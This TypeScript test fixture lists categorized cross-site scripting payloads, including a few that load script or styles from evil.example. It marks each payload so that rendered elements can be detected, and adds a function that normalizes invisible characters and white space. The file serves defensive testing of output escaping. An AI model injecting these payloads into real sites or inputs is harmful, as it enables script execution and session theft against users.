/** Texts that would run, or break out of their place, wherever they are not written as text. */

/** ` *` stands for a mark, by which an element that a text has made is found. */
const marked = (text: string) => text.replaceAll(" *", " data-hostile");

export const HOSTILE: Record<string, string[]> = {
  "elements that run": [
    `<script>alert(1)</script>`,
    `<script>window.__ran=1</script>`,
    `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
    `<img * src=x onerror=alert(1)>`,
    `<img * src=x onerror="window.__ran=1">`,
    `<svg * onload=alert(1)>`,
    `<svg *><script>alert(1)</script></svg>`,
    `<svg *><animate onbegin=alert(1) attributeName=x dur=1s>`,
    `<math *><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
    `<iframe * src="javascript:alert(1)"></iframe>`,
    `<iframe * srcdoc="<script>parent.__ran=1</script>"></iframe>`,
    `<details * open ontoggle=alert(1)>`,
    `<video *><source onerror=alert(1)>`,
    `<input * autofocus onfocus=alert(1)>`,
    `<object * data="data:text/html,<script>alert(1)</script>">`,
  ],
  "links, styles and forms": [
    `javascript:alert(1)`,
    `JaVaScRiPt:window.__ran=1//`,
    `<a * href="javascript:alert(1)">x</a>`,
    `<a * href="data:text/html,<script>alert(1)</script>">x</a>`,
    `<form * action="javascript:alert(1)"><button>x</button></form>`,
    `<base * href="//evil.example/">`,
    `<meta * http-equiv="refresh" content="0;url=//evil.example">`,
    `<link * rel=stylesheet href=//evil.example/x.css>`,
    `<style *>*{display:none}</style>`,
    `<div * style="background:url(javascript:alert(1))">`,
  ],
  "ways out of a place": [
    `</textarea><script>alert(1)</script>`,
    `</title><script>alert(1)</script>`,
    `</script><script>alert(1)</script>`,
    `</style><img * src=x onerror=alert(1)>`,
    `</noscript><img * src=x onerror=alert(1)>`,
    `</option></select><img * src=x onerror=alert(1)>`,
    `</template><svg * onload=alert(1)>`,
    `"><img * src=x onerror=alert(1)>`,
    `'><svg * onload=alert(1)>`,
    `" autofocus onfocus=alert(1) x="`,
    `' onmouseover='alert(1)`,
    `--><img * src=x onerror=alert(1)>`,
    `<!--><img * src=x onerror=alert(1)>-->`,
    `]]><img * src=x onerror=alert(1)>`,
    `\\"};alert(1);//`,
  ],
  "text that only looks harmless": [
    `&lt;img src=x onerror=alert(1)&gt; &amp;amp; &#60;b&#62;`,
    `\${alert(1)} {{constructor.constructor('alert(1)')()}} #{7*7}`,
    `a\u2028alert(1)\u2029//`,
    `\u202Etxt.exe\u202C \u2066<b *>\u2069`,
    `＜script＞alert(1)＜/script＞ ʺ＞`,
    `<\u200Bscript>alert(1)</script>`,
    `%3Cscript%3Ealert(1)%3C/script%3E`,
    `\uFEFF<scr\uFEFFipt>alert(2)</script>`,
  ],
};
for (const texts of Object.values(HOSTILE)) texts.forEach((text, index) => (texts[index] = marked(text)));

/** What the product keeps of a line: characters that show nothing go, white space becomes one space. */
export function kept(text: string): string {
  return text
    .replace(/[\u200B\u200E\u200F\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/g, "")
    .replace(/\s+/g, " ")
    .trim();
}
